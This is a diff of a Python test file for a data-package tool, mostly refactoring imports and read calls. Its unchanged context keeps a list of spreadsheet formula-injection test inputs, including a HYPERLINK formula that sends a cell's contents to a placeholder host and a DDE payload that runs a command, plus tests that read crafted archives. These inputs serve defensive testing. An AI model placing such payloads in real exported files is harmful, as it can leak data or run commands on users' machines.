@@ -16,14 +16,14 @@ from click.testing import CliRunner
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
-from oas_program import default_program
+from oas_program import default_program, pipeline
 from oas_program.builtin import csv_package, relational
-from oas_program.cells import FORMULA_PREFIXES, restore
 from oas_program.cli import cli
 from oas_program.errors import DataError, ExitCode
-from oas_program.host import PluginHost
+from oas_program.files.cells import FORMULA_PREFIXES, restore
 from oas_program.model import Program
 from oas_program.plugin_api import ExportOptions
+from oas_program.plugins.host import PluginHost
 from tests.strategies import programs, words
 
 INJECTIONS = ('=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")
@@ -49,7 +49,9 @@ def write_dir(host: PluginHost, program: Program, folder: Path, **options: bool)
 
 
 def read(host: PluginHost, path: Path) -> Program:
-    return host.read(path, display=path.name if path.is_file() else f"{path.name}/")
+    return pipeline.read_program(
+        path, display=path.name if path.is_file() else f"{path.name}/", host=host
+    )
 
 
 def unique_ids(program: Program) -> bool:
@@ -168,7 +170,7 @@ def test_frictionless_reports_a_reference_to_an_unrecorded_id(
 
 
 def program_tables() -> list[str]:
-    from oas_program.tables import layout
+    from oas_program.model.tables import layout
 
     return [t.name for t in layout()]
 
@@ -426,7 +428,7 @@ def _read_zip(host: PluginHost, tmp_path: Path, data: bytes) -> list[tuple[objec
     path = tmp_path / "evil.zip"
     path.write_bytes(data)
     with pytest.raises(DataError) as caught:
-        host.read(path, display="evil.zip")
+        pipeline.read_program(path, display="evil.zip", host=host)
     assert caught.value.exit_code == ExitCode.UNREADABLE
     return [(p.file, p.code, p.message) for p in caught.value.problems]
 
@@ -471,7 +473,7 @@ def test_a_zipped_folder_is_read(host: PluginHost, tmp_path: Path) -> None:
     members = {f"program/{name}": data for name, data in _members(host).items()}
     path = tmp_path / "folder.zip"
     path.write_bytes(_zip(members))
-    assert host.read(path) == default_program()
+    assert pipeline.read_program(path, host=host) == default_program()
 
 
 def test_problems_in_an_archive_name_the_member(host: PluginHost, tmp_path: Path) -> None:
@@ -480,7 +482,7 @@ def test_problems_in_an_archive_name_the_member(host: PluginHost, tmp_path: Path
     path = tmp_path / "evil.zip"
     path.write_bytes(_zip(members))
     with pytest.raises(DataError) as caught:
-        host.read(path, display="evil.zip")
+        pipeline.read_program(path, display="evil.zip", host=host)
     assert [str(p) for p in caught.value.problems] == [
         "evil.zip!data/sources.csv:37: columns 'title', 'url', 'symbol', 'date' missing "
         "[missing-cell]"
@@ -580,7 +582,7 @@ def test_a_failing_export_leaves_the_previous_directory(
 def test_a_directory_without_a_descriptor_is_unreadable(host: PluginHost, tmp_path: Path) -> None:
     (tmp_path / "empty").mkdir()
     with pytest.raises(DataError) as caught:
-        host.read(tmp_path / "empty", display="empty/")
+        pipeline.read_program(tmp_path / "empty", display="empty/", host=host)
     assert [str(p) for p in caught.value.problems] == [
         "empty/: cannot read: a directory without a datapackage.json [input-unreadable]"
     ]
